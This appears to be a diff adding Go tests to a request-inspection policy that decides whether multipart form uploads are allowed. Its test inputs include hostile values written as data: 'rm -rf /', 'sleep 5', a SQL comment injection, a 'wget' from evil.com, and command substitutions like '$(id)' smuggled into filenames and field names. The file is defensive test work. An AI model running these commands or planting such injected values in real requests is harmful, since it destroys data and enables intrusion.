@@ -6,6 +6,7 @@ import (
 	"context"
 	"encoding/base64"
 	"fmt"
+	"strings"
 	"testing"
 
 	"redoubt/policy"
@@ -79,6 +80,62 @@ func TestOwnershipOfWhatIsReadTwoWays(t *testing.T) {
 	} {
 		if got := owned(t, body); got != want {
 			t.Errorf("%q: %q, want %q", body, got, want)
+		}
+	}
+}
+
+// part is a form with files, of one field.
+func part(before, head, value string) string {
+	return before + "--B\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + value + "\r\n--B--\r\n"
+}
+
+// TestParts: parts are told apart as those do who read forms with files.
+func TestParts(t *testing.T) {
+	const name = `name="f"`
+	bodies := map[string]bool{}
+	for _, value := range []string{"; rm -rf /", "sleep 5", "admin'--", "wget http://evil.com/x"} {
+		lines := strings.ReplaceAll(part("", name, value), "\r\n", "\n")
+		for _, body := range []string{
+			part("", name, value), part("\r\n", name, value), part("hello\r\n", name, value), lines, "hello\n" + lines,
+			strings.Replace(part("", name, value), "--B\r", "--B \t\r", 1),
+			part("", name, "tea\r\n--B\r\nContent-Disposition: form-data; name=\"g\"\r\n\r\n"+value),
+			strings.ReplaceAll(part("", name, value), "--B", "--"+strings.Repeat("B", 90)),
+		} {
+			bodies[body] = true
+		}
+	}
+	bodies[part("", name, "y--B; rm -rf /")] = true
+	for _, head := range []string{`name="f"; filename="$(id).txt"`, `filename="x;id"; name="f"`, `name="f"; filename=x;id`, `name="x;id"`, `name="__proto__"`, `name="f"; filename*=utf-8''%24%28id%29.txt`, `name="f"; filename="a\";id;\""`} {
+		bodies[part("", head, "tea")] = true
+	}
+	for _, honest := range []string{
+		part("", name, "tea"), part("hello\r\n", name, "leave it at the door; thanks"), part("", `name="f"; filename="a photo (1).jpg"`, "--B is no boundary here"),
+		part("", `name="f"; filename*=UTF-8''na%C3%AFve.txt`, "tea"), "-- \nBest regards\n--\nAda", "--B", "--B--", "--",
+	} {
+		bodies[honest] = false
+	}
+	for _, headers := range []string{`{"content-type":"multipart/form-data; boundary=B"}`, `{"CONTENT-Type":"multipart/form-data;Boundary=\"B\""}`, "{}"} {
+		inspected(t, headers, bodies)
+	}
+}
+
+// TestBoundaryOfHeaders: the boundary is the one that the event tells.
+func TestBoundaryOfHeaders(t *testing.T) {
+	decoy := "--Z\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n" + part("", `name="f"`, "sleep 5") + "--C\r\n\r\n; rm -rf /\r\n--C--"
+	g := real(t)
+	for headers, refused := range map[string]bool{
+		`"headers":{"content-type":"multipart/form-data; boundary=B"}`:                  true,
+		`"multiValueHeaders":{"Content-Type":["multipart/form-data; boundary=B"]}`:      true,
+		`"headers":{"content-type":"multipart/form-data; boundary=A; boundary = B"}`:    true,
+		`"headers":{"content-type":"multipart/form-data; boundary=A; boundary=\"B\""}`:  true,
+		`"headers":{"content-type":"ȺȺȺȺ multipart/form-data; boundary=B"}`:             true,
+		`"headers":{"content-type":"ȺȺȺȺ boundary"}`:                                    false,
+		`"headers":{"content-type":"multipart/mixed; boundary=C"}`:                      true, // its part has no head
+		`"headers":{"content-type":"multipart/form-data; boundary=Z","x-boundary":"B"}`: false,
+	} {
+		event := strings.Replace(posted("{}", decoy), `"headers":{}`, headers, 1)
+		if d := g.Decide(context.Background(), Invocation{Event: []byte(event)}); (d.Verdict != Allow) != refused {
+			t.Errorf("%s: %s", headers, reasons(d))
 		}
 	}
 }
